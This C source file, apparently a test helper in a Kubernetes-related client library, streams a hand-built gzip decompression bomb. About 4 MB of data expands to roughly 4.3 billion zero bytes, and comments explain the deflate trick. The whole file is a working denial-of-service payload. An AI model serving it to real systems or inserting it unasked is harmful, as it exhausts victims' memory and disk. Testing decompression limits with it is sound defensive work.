/* One block of deflate with a code of its own: a literal zero, and "258 bytes from one byte back", which takes two
 * bits, both zero. Each zero byte of the stream is so 1032 zeros of the body. */
#include "gzip_bomb.h"

enum { ZERO_PIECES = 64, PIECE_BYTES = 64 * 1024 };

/* gzip's header, the block's code table, and the literal. */
static const unsigned char head[] = { 0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02, 0xff, 0xed, 0xc0,
                                      0x81, 0x00, 0x00, 0x00, 0x00, 0x80, 0xa0, 0xfd, 0xa9, 0x17, 0xa9, 0x00 };
/* The end of the block, the checksum of 4328522761 zeros, and their number modulo 2^32. */
static const unsigned char tail[] = { 0x06, 0x8a, 0xb9, 0x3d, 0xcb, 0x09, 0x04, 0x00, 0x02 };
static const unsigned char zeros[PIECE_BYTES];

uint64_t kube__gzip_bomb_bytes(void)
{
    return sizeof head + sizeof tail + (uint64_t)ZERO_PIECES * PIECE_BYTES;
}

kube_str kube__gzip_bomb_piece(size_t i)
{
    if (i == 0)
        return kube_str_n((const char *)head, sizeof head);
    if (i <= ZERO_PIECES)
        return kube_str_n((const char *)zeros, sizeof zeros);
    return kube_str_n((const char *)tail, i == ZERO_PIECES + 1 ? sizeof tail : 0);
}
